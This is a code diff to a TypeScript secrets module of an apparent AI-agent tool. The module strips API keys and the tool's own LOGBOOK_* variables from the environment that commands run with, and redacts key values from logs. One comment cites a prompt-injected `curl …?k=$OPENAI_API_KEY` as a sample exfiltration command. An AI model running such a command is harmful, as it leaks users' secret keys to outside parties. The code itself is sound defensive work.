@@ -4,7 +4,8 @@
  *
  * - `env`: the environment the tools' commands run with — the process's own without those
  *   variables (unless `pass` names them), so `env`, `printenv` or a prompt-injected
- *   `curl …?k=$OPENAI_API_KEY` find nothing;
+ *   `curl …?k=$OPENAI_API_KEY` find nothing; logbook's own `LOGBOOK_*` variables (where its
+ *   database is …) are never in it;
  * - `redact`: every occurrence of a key's value in what is about to be logged is replaced by
  *   `[logbook redacted $NAME]` — the journal applies it to every event it appends, and `Actions` to
  *   the blobs of a command's output — so a key that reaches a tool's output anyway (a `cat ~/.bashrc`)
@@ -23,6 +24,9 @@ import { ToolFailure } from "./Tools.js"
  * and may be part of ordinary text — paths included, which must stay as they are in the log.
  */
 export const MIN_SECRET_LENGTH = 20
+
+/** The prefix of logbook's own environment variables: none of them reaches a command. */
+export const OWN_PREFIX = "LOGBOOK_"
 
 /** What a masked value is replaced with. */
 export const redactionMarker = (name: string): string => `[logbook redacted $${name}]`
@@ -111,6 +115,10 @@ export const makeSecrets = (options: SecretsOptions): SecretsService => {
     const current = options.env ?? process.env
     const result: Record<string, string | undefined> = {}
     for (const [name, value] of Object.entries(current)) {
+      // logbook's own settings (`LOGBOOK_DB`, `LOGBOOK_MODEL` …) are not the project's: a command
+      // does not learn where the log is, nor runs a nested logbook against it (unless the user's
+      // config passes the variable by name: `tools.bash.passEnv`)
+      if (name.startsWith(OWN_PREFIX) && !pass.has(name)) continue
       if (!names.includes(name) || pass.has(name)) result[name] = value
     }
     return result
